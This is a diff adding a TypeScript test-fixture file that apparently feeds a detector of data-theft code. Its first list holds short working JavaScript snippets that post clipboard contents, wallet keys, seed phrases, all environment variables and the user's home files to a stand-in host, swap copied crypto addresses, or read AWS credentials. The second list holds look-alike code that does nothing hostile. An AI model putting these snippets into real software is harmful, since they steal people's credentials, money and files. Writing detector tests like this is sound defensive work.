@@ -1,0 +1,28 @@
+/** What thieves take, taken by programs of our own that do nothing: every host is under .example. */
+type Files = Readonly<Record<string, string>>;
+const one = (text: string): Files => ({ 'a.js': text });
+
+export const takenSamples: Readonly<Record<string, readonly [string, Files]>> = {
+  'the clipboard sent, by the command of each system': ['reads-clipboard a.js:3', one("const { exec } = require('child_process'); const axios = require('axios');\nconst command = { darwin: 'pbpaste', win32: 'powershell Get-Clipboard' }[process.platform];\nexec(command, (error, text) => { axios.post('https://a.example', { text }); });")],
+  'an address put in the clipboard': ['changes-clipboard a.js:2', one("const clipboardy = require('clipboardy');\nsetInterval(() => { if (/^0x[a-fA-F0-9]{40}$/.test(clipboardy.readSync())) clipboardy.writeSync('0x00000000000000000000000000000000000000aa'); }, 500);")],
+  'the key of a wallet in the settings': ['sends-wallet-key a.js:1', one("fetch('https://a.example', { method: 'POST', body: JSON.stringify({ note: process.env.PRIVATE_KEY }) });")],
+  'the words of a wallet that a form asks for': ['sends-wallet-key A.tsx:2', { 'A.tsx': "export const verify = async (words: string) => {\n  await fetch('https://a.example/seed', { method: 'POST', body: JSON.stringify({ seedPhrase: words }) });\n};" }],
+  'the key of a wallet, by a messenger': ['sends-wallet-key a.js:2', one("const TelegramBot = require('node-telegram-bot-api'); const bot = new TelegramBot(token);\nbot.sendMessage(1, process.env.MNEMONIC);")],
+  'every value of the environment, one by one': ['sends-environment a.js:2', one("const axios = require('axios'); const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key];\naxios.post('https://a.example', all);")],
+  'documents of the person, swept and sent': ['sends-files a.js:4', one("const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios'), FormData = require('form-data');\nfunction sweep(dir, found) { for (const name of fs.readdirSync(dir)) { const full = path.join(dir, name); if (fs.statSync(full).isDirectory()) sweep(full, found); else found.push(full); } return found; }\nfor (const file of sweep(os.homedir(), [])) { const form = new FormData(); form.append('f', fs.createReadStream(file));\naxios.post('https://a.example', form); }")],
+  'keys under a folder that is put together': ['reads-keys a.js:1', one("const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));")],
+};
+
+/** Ordinary code that looks alike. */
+export const quietTakenSamples: Readonly<Record<string, Files>> = {
+  'a wallet that signs': one("const { Wallet } = require('ethers'); const w = new Wallet(process.env.PRIVATE_KEY); w.signMessage('x').then((s) => fetch('https://a.example', { method: 'POST', body: s }));"),
+  "words that go to the project's own server": one("fetch('/api/wallets', { method: 'POST', body: JSON.stringify({ mnemonic }) });"),
+  'the key of another service': one("fetch('https://a.example', { method: 'POST', body: JSON.stringify({ key: process.env.VAPID_PRIVATE_KEY }) });"),
+  'an archive that is fetched and unpacked': one("const fs = require('fs'), { execFileSync } = require('child_process'); fetch('https://a.example/a.tgz').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/a.tgz', Buffer.from(b)); execFileSync('tar', ['xf', '/tmp/a.tgz']); });"),
+  'a picture that is fetched and piped to a converter': one("const { spawn } = require('child_process'); const p = spawn('convert', ['-', 'png:-']); require('https').get('https://a.example', (r) => r.pipe(p.stdin));"),
+  'a worker of the project': one("const { Worker } = require('worker_threads'); fetch('https://a.example').then((r) => r.json()).then((data) => new Worker('./work.js', { workerData: data }));"),
+  'a template with fetched values': one("const ejs = require('ejs'); fetch('https://a.example').then((r) => r.json()).then((data) => ejs.render('<p><%= name %></p>', data));"),
+  'an event with fetched data': one("const { EventEmitter } = require('events'); const bus = new EventEmitter(); bus.on('x', (d) => console.log(d)); fetch('https://a.example').then((r) => r.text()).then((t) => bus.emit('x', t)); eval('1');"),
+  'a callback named by the page': one("fetch('https://a.example').then((r) => r.json()).then((d) => window[name](d));"),
+  'git told what was written': one("const fs = require('fs'), { spawn } = require('child_process'); fetch('https://a.example').then((r) => r.text()).then((t) => { fs.writeFileSync('NOTES.md', t); spawn('git', ['add', 'NOTES.md']); });"),
+};
